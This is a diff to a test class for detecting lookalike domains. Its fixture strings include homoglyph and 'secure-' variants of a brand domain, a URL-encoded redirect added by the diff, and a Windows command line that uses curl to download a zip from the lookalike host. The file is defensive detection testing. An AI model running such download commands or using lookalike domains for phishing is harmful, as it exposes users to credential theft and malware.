@@ -62,6 +62,7 @@ class LookalikeDetectionTest {
                 "mail.message | Body.Text | 请访问secure-quillfeather.online查看",
                 "mail.message | Body.Text | qu\u0456llfeather.org",
                 "web.proxy | url | http://a.secure-quillfeather.online:8080/",
+                "web.proxy | url | /go?to=https%3A%2F%2Fsecure-quillfeather.online%2Fa",
                 "windows.event | QueryName | secure-quillfeather.online",
                 "windows.event | DestinationHostname | secure-quillfeather.online",
                 "windows.event | CommandLine | curl.exe -o a https://secure-quillfeather.online/a.zip",
